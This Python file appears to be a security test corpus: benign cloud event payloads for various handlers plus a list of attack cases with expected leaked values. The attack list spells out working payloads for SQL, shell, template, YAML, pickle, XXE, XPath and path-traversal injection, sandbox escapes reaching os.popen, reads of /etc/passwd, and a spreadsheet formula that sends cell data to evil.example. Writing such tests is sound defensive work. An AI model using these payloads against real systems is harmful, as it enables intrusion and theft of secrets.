"""What event sources set off."""

import subprocess

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.seventeenth import (
    JSONISH,
    MAILS,
    NAMES,
    NOTES,
    PLACES,
    SEARCHES,
    SNIPPET,
    TEMPLATEISH,
    TICKET,
    TYPED,
    b64,
    bus,
    kinesis,
    logs,
    pickled_call,
    post,
    sns,
    sqs,
    stream,
    uploaded,
)

NEEDS = ()
KEY = "belfry-key-6021"


def _bot(text: str) -> dict[str, object]:
    return post(update_id=7, message={"chat": {"id": 9}, "text": text})


def _authorized(token: str) -> dict[str, object]:
    arn = "arn:aws:execute-api:eu-north-1:210987654321:q8w2/v1/GET/items"
    return {"type": "TOKEN", "authorizationToken": token, "methodArn": arn}


REQUESTS = {
    "orders_queue": [
        sqs({"id": "o1", "name": NAMES[0], "note": TICKET}),
        sqs({"id": "o2", "note": SNIPPET}, {"id": "o'3", "note": JSONISH}),
        sqs({"id": "o4 -- x", "city": PLACES[2]}),
    ],
    "orders_text": [sqs({"id": "o1", "city": c}) for c in ("Cork", "Köln (Süd)", "Stoke-on-Trent; UK")],
    "batch": [sqs({"id": "a"}, {"name": NAMES[4], "id": "b"}), sqs({"id": 1}, {"text": NOTES})],
    "jobs": [
        sqs(*({"job": j, "text": t} for t in TYPED[:3]))
        for j in ("upper", "title", "escape", "length", "os.system")
    ],
    "tasks": [
        sqs({"task": "html.escape", "args": [NAMES[7]]}),
        sqs({"task": "urllib.parse.quote", "args": [PLACES[0]]}),
        sqs({"task": "textwrap.shorten", "args": [TICKET, 40]}),
    ],
    "legacy_jobs": [sqs("gAR9lChLAUsCSwNLBHUu"), sqs("gARdlChLAUsCSwNlLg==")],
    "alarm": [
        sns({"AlarmName": "CPU > 80%", "NewStateReason": "it's 91 <b>now</b>"}),
        sns(TICKET, "Help -- it's urgent"),
        sns("{broken", None),
    ],
    "alarm_template": [sns(t, s) for t, s in zip(TYPED[:2], ("Disk full", "O'Hara's job; #5"), strict=True)]
    + [sns(TICKET, "Ticket 17"), sns("50% of $5 in {braces}", "it's")],
    "alarm_format": [sns("It's {time}: {shop.name} opens"), sns(JSONISH), sns(NOTES), sns(TEMPLATEISH)],
    "alarm_safe": [sns("$shop: it's $5; ${x}"), sns(TEMPLATEISH), sns(TICKET)],
    "notice_mail": [sns(TICKET, NAMES[0] + ": it's broken"), sns(NOTES, "Größe\n5"), sns(SNIPPET)],
    "clicks": [kinesis(*({"page": p} for p in ("/a", "/b?q=it's", "/a"))), kinesis({"page": SEARCHES[0]})],
    "clicks_where": [
        kinesis({"page": "/a", "filter": "n > 2", "n": 3}, {"page": "/b"}),
        kinesis({"page": "/o'hara", "filter": "page.startswith('/o')"}),
        kinesis({"page": "/x", "filter": "'lamp' in page or n == 9"}),
    ],
    "changes": [
        stream({"id": "1", "note": TICKET, "n": 5}),
        stream({"id": "o'2", "note": NOTES}, kind="MODIFY"),
    ],
    "changes_run": [
        stream({"id": "1", "note": "ring at 5 (side door); 100%"}),
        stream({"id": "2", "note": 'Tom & "Jo" <x> | $5'}),
        stream({"id": "3", "note": "李雷 -- ok"}),
    ],
    "uploads": [
        uploaded("in/report.csv"),
        uploaded("in/O'Hara (1).csv", "a/b; c.csv"),
        uploaded("../größe.csv"),
    ],
    "uploads_key": [uploaded("report.csv"), uploaded("O'Hara (1).csv"), uploaded("2026/12/none & more.csv")],
    "uploads_shell": [
        uploaded("in/report.csv"),
        uploaded("in/O'Hara (1) & Co.csv"),
        uploaded("a/50% off; b.csv"),
    ],
    "configuration": [
        bus("c", yaml="name: it's\nlist: [1, 'two', 3.5]\nday: 2026-12-02\n"),
        bus("c", yaml="text: |\n  " + NOTES.replace("\n", "\n  ")),
        bus("c", yaml="a: [1"),
        bus("c", yaml="x: !ruby/object 5"),
    ],
    "configuration_old": [
        bus("c", yaml="name: O'Hara; x\nn: 5\n"),
        bus("c", yaml="- 50%\n- '{{ x }}'\n- ~\n"),
    ],
    "invoice": [
        bus("i", xml="<i><customer>O'Hara &amp; Sons</customer><line>5 &lt; 6</line></i>"),
        bus("i", xml="<!DOCTYPE i [<!ENTITY co 'Belfry; Ltd.'>]><i><customer>&co;</customer></i>"),
        bus("i", xml="<i><customer>李雷</i>"),
    ],
    "invoice_find": [bus("f", name=n) for n in ("ana", "bo", "Müller (2)", "O'Hara")],
    "invoice_find_safe": [bus("f", name=n) for n in ("O'Hara", "bo", "x' or '1'='1")],
    "route": [
        bus("r", path="items[?price > `5`].name", data={"items": [{"name": "it's", "price": 9}]}),
        bus("r", path="a.b || 'none'", data={"a": {"b": TICKET}}),
        bus("r", path="a[", data={}),
    ],
    "price_rule": [
        bus("p", formula=f, n=3, cents=250) for f in ("n * cents / 100", "-n + 5", "n ** 2", "n(", "x / 0")
    ],
    "rule_save": [
        post(name="vat", text="total * 1.19"),
        post(name="o'r", text="total > 5 and 'big' or 'it''s'"),
    ],
    "rule_run": [bus("r", rule="vat", total=100), bus("r", rule="o'r", total=9), bus("r", rule="none; --")],
    "authorizer": [_authorized(t) for t in ("Bearer good", "Bearer o'bad; x", "")],
    "log_lines": [
        logs("INFO ok", "ERROR it's down; 50%", "ERROR " + TICKET),
        logs(SNIPPET, "ERROR " + JSONISH),
    ],
    "chat_bot": [_bot(f"{c} {t}") for c in ("/echo", "/count") for t in TYPED[:2]]
    + [_bot("/start"), _bot("it's me")],
    "members": [
        sqs(*({"name": n, "mail": m} for n, m in zip(NAMES, MAILS, strict=False))),
        sqs({"name": "=A1"}),
    ],
}

_OS = "__import__('os').popen('echo ev-$((6*7))').read()"
_SUB = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"

ATTACKS = [
    Attack("SQL", "orders_text", sqs({"id": "x' UNION SELECT key FROM vault --", "city": "y"}), KEY),
    Attack("SQL", "orders_text", sqs({"id": "x", "city": "' || (SELECT key FROM vault) || '"}), KEY),
    Attack(
        "import by name",
        "tasks",
        sqs({"task": "subprocess.getoutput", "args": ["echo ev-$((6*7))"]}),
        "ev-42",
    ),
    Attack("import by name", "tasks", sqs({"task": "builtins.eval", "args": ["__import__('app').KEY"]}), KEY),
    Attack("import by name", "tasks", sqs({"task": "os.listdir", "args": ["/etc"]}), "passwd"),
    Attack(
        "deserialise",
        "legacy_jobs",
        sqs(b64(pickled_call(subprocess.getoutput, "echo ev-$((6*7))"))),
        "ev-42",
    ),
    Attack("deserialise", "legacy_jobs", sqs(b64(pickled_call(eval, "__import__('app').KEY"))), KEY),
    Attack("template", "alarm_template", sns("{{ shop.token }}", "x"), KEY),
    Attack(
        "template",
        "alarm_template",
        sns("x", "{{ cycler.__init__.__globals__.os.popen('echo ev-$((6*7))').read() }}"),
        "ev-42",
    ),
    Attack("template", "alarm_template", sns("'token'}[1]] }}", "{{ shop[{1"), KEY),
    Attack("format", "alarm_format", sns("{shop.token}"), KEY),
    Attack("format", "alarm_format", sns("{shop.__class__.__dict__[token]:>40}"), KEY),
    Attack("Python, eval", "clicks_where", kinesis({"page": "/", "filter": _OS}), "ev-42"),
    Attack("Python, eval", "clicks_where", kinesis({"page": "/", "filter": "__import__('app').KEY"}), KEY),
    Attack("shell", "changes_run", stream({"id": "1", "note": "x'; echo ev-$((6*7)); echo '"}), "ev-42"),
    Attack("shell", "changes_run", stream({"id": "1", "note": "'$(head -1 /etc/passwd)'"}), "root:"),
    Attack("path", "uploads_key", uploaded("../secret.txt"), KEY),
    Attack("path", "uploads_key", uploaded("/etc/passwd"), "root:"),
    Attack("shell", "uploads_shell", uploaded('x"; cat secret.txt; "'), KEY),
    Attack("shell", "uploads_shell", uploaded("$(cat secret.txt).csv"), KEY),
    Attack("shell", "uploads_shell", uploaded("a`echo ev-$((6*7))`.csv"), "ev-42"),
    Attack(
        "YAML",
        "configuration_old",
        bus("c", yaml="!!python/object/apply:subprocess.getoutput ['echo ev-$((6*7))']"),
        "ev-42",
    ),
    Attack("YAML", "configuration_old", bus("c", yaml="!!python/name:app.KEY"), KEY),
    Attack(
        "YAML",
        "configuration_old",
        bus("c", yaml="x: !!python/object/new:eval ['open(\"/etc/passwd\").read()']"),
        "root:",
    ),
    Attack(
        "XXE",
        "invoice",
        bus("i", xml="<!DOCTYPE i [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><i><customer>&x;</customer></i>"),
        "root:",
    ),
    Attack("XPath", "invoice_find", bus("f", name="x']/@n | //admin/@key | //u[@name='x"), KEY),
    Attack("XPath", "invoice_find", bus("f", name="' or '1'='1"), '"4", "7"'),
    Attack(
        "Python, second order",
        "rule_run",
        bus("r", rule="evil"),
        "ev-42",
        before=[("rule_save", post(name="evil", text=_SUB + "['popen']('echo ev-$((6*7))').read()"))],
    ),
    Attack(
        "Python, second order",
        "rule_run",
        bus("r", rule="evil2"),
        KEY,
        before=[("rule_save", post(name="evil2", text=_SUB + "['sys'].modules['app'].KEY"))],
    ),
    Attack(
        "CSV, formula", "members", sqs({"name": '=HYPERLINK("http://evil.example/?"&A1;"x")'}), "=HYPERLINK("
    ),
]
